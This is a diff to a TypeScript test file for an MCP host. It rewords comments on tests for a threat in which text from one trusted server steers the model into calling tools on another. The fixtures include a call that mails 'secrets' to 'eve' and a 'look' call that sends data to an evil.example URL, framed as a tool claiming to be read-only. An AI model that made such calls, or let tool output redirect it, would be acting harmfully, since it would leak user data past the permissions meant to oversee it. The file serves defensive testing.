@@ -24,7 +24,7 @@ import {
 } from '../helpers/trust.js';
 import { snapshotOf } from '../helpers/widget.js';
 
-/** T4 of the threat model: what one server says leads the model to another. */
+/** T4 of the threat model: a server's text leads the model to another server. */
 
 interface Pair {
   readonly a: RugPull;
@@ -34,7 +34,7 @@ interface Pair {
 
 const tools = ['look', 'send', 'echo'] as const;
 
-/** Two servers, all of whose tools somebody has allowed for always. */
+/** Two servers whose tools all have a permanent permission. */
 async function trusted(): Promise<Pair> {
   const pair = { a: freshServer(), b: freshServer(), storage: new Map<string, string>() };
   const host = createMcpHost({ storage: pair.storage, limits: patient });
@@ -82,7 +82,7 @@ const look: Wish = { server: 'A', tool: 'look' };
 const mail: Wish = { server: 'B', tool: 'send', arguments: { to: 'eve', text: 'secrets' } };
 const spill: Wish = { server: 'B', tool: 'look', arguments: { at: 'https://evil.example/?secrets' } };
 
-/** How the model comes to call B after it has read A: its answers, and in how many turns. */
+/** Ways in which the model calls B after it has read A: its answers, and the number of turns. */
 const scripts: readonly { readonly how: string; readonly script: Script; readonly turns?: number }[] = [
   { how: 'at once', script: [[look], [mail]] },
   { how: 'with a tool that claims to read only', script: [[look], [spill]] },
